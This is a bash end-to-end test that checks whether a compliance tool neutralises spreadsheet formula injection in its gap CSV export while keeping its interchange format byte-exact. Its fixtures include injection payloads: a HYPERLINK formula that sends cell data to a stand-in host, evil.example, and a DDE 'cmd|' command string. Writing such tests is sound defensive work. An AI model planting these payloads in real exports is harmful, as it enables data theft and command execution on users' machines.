#!/usr/bin/env bash
# Spreadsheet formula injection: catalog titles and ids that begin with
# =, +, -, @ or TAB reach the gap CSV (opened by people in spreadsheets)
# as text -- a leading "'" -- while the mappings interchange format
# (`export mappings`) keeps every byte as imported.
set -u
E2E_NAME=csv_formulas
. "$(dirname "$0")/lib.sh"
e2e_require

A=("$BIN" --config "$ANNEXA_CONFIG")
D=$E2E_TMP
cat >"$D/f-src.json" <<'EOT'
{"framework": {"id": "f-src", "name": "Formula source", "version": "1", "publisher": "annexa tests"},
 "controls": [
  {"id": "-S1", "title": "-1", "group_id": "S", "group_title": "Sources"},
  {"id": "S2", "title": "Plain source", "group_id": "S", "group_title": "Sources"}
 ]}
EOT
cat >"$D/f-tgt.json" <<'EOT'
{"framework": {"id": "f-tgt", "name": "Formula target", "version": "1", "publisher": "annexa tests"},
 "controls": [
  {"id": "-T1", "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "group_id": "-G", "group_title": "+group"},
  {"id": "T2", "title": "+1", "group_id": "G", "group_title": "Targets"},
  {"id": "T3", "title": "-1", "group_id": "G", "group_title": "Targets"},
  {"id": "T4", "title": "@SUM(A1:A9)", "group_id": "G", "group_title": "Targets"},
  {"id": "T5", "title": "\tcmd|' /C calc'!A0", "group_id": "G", "group_title": "Targets"},
  {"id": "T6", "title": "Plain title, with a comma", "group_id": "G", "group_title": "Targets"}
 ]}
EOT
# The interchange file, in the form export writes it.
cat >"$D/f-formulas.csv" <<'EOT'
# provenance: annexa end-to-end test fixture: cells a spreadsheet would run
# version: =1+1
source_framework,source_control,target_framework,target_control,relationship,strength,rationale,confidence,note
f-src,-S1,f-tgt,-T1,equal,10,syntactic,high,=1+1
f-src,-S1,f-tgt,T2,equal,10,syntactic,high,+cmd
f-src,S2,f-tgt,T3,subset,5,semantic,medium,-2
f-src,S2,f-tgt,T4,equal,,semantic,low,@x
f-src,S2,f-tgt,T5,equal,9,semantic,high,"=A1,B2"
f-src,S2,f-tgt,T6,equal,9,semantic,high,plain
EOT
cat >"$D/csvf.json" <<'EOT'
{"org": {"id": "csvf", "name": "Formula Test Ltd", "cloud_role": "csp", "source_framework": "f-src"},
 "soa": [
  {"control": "-S1", "applicable": true, "implementation": "implemented", "responsibility": "csp", "owner": "=owner", "evidence_source": "repo", "change_trigger": "any change", "escalation_path": "CISO"},
  {"control": "S2", "applicable": true, "implementation": "partial", "responsibility": "csp", "owner": "Owner", "evidence_source": "repo", "change_trigger": "any change", "escalation_path": "CISO"}
 ]}
EOT
if "${A[@]}" import catalog "$D/f-src.json" "$D/f-tgt.json" >"$D/import.log" 2>&1 &&
    "${A[@]}" import mappings "$D/f-formulas.csv" >>"$D/import.log" 2>&1 &&
    "${A[@]}" import org "$D/csvf.json" >>"$D/import.log" 2>&1; then
	pass "the formula fixtures import"
else
	fail "the formula fixtures import" "$(cat "$D/import.log")"
fi

TOK=$(new_token --org csvf --role viewer --label csv-formulas)
req -H "Authorization: Bearer $TOK" "$U/api/v1/orgs/csvf/gap?target=f-tgt&format=csv&as_of=2026-06-30"
expect "the gap CSV is served" 200 "target_control,title,"
expect_header "as text/csv" Content-Type text/csv
cp "$D/body" "$D/gap.csv"

# Every cell, read as a spreadsheet reads CSV: none starts a formula.
/usr/bin/python3 - "$D/gap.csv" >"$D/cells.out" 2>&1 <<'EOT'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline='')))
bad = [c for r in rows for c in r if c[:1] in ('=', '+', '-', '@', '\t', '\r')]
print(len(rows), 'rows;', 'bad cells:', bad)
sys.exit(1 if bad or len(rows) < 7 else 0)
EOT
check "no cell of the gap CSV starts a formula ($(cat "$D/cells.out"))" \
    grep -q 'bad cells: \[\]$' "$D/cells.out"
has() { grep -qF -- "$1" "$D/gap.csv"; }
check "a title =HYPERLINK(...) is written as text" \
    has "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\""
check "a title +1 is written as text" has "\"'+1\""
check "a title -1 is written as text" has "T3,\"'-1\","
check "a title @SUM(A1:A9) is written as text" has "\"'@SUM(A1:A9)\""
check "a title starting with TAB is written as text" has "\"'	cmd|' /C calc'!A0\""
check "ids and group ids starting with - are written as text" \
    has "\"'-T1\",\"'=HYPERLINK"
check "a source control -S1 is written as text" has ",\"'-S1\",equal,"
check "ordinary cells are unchanged" has 'T6,"Plain title, with a comma",G,'

# The same answer as JSON is not touched: it is not meant for a spreadsheet.
req -H "Authorization: Bearer $TOK" "$U/api/v1/orgs/csvf/gap?target=f-tgt&as_of=2026-06-30"
expect "JSON keeps the titles as they are" 200 '"id":"-T1","title":"=HYPERLINK(' '"title":"+1"'

# The interchange format keeps every byte: export = the imported file,
# and a second round trip changes nothing.
"${A[@]}" export mappings --name f-formulas >"$D/export1.csv" 2>"$D/export.err"
check "export mappings gives back the imported file byte for byte" \
    cmp "$D/f-formulas.csv" "$D/export1.csv"
"${A[@]}" import mappings --name f-formulas "$D/export1.csv" >/dev/null 2>&1
"${A[@]}" export mappings --name f-formulas >"$D/export2.csv" 2>>"$D/export.err"
check "export, import, export: byte-identical" cmp "$D/export1.csv" "$D/export2.csv"
check "the note =1+1 is exported as it is" grep -q '^f-src,-S1,f-tgt,-T1,equal,10,syntactic,high,=1+1$' "$D/export1.csv"

e2e_done
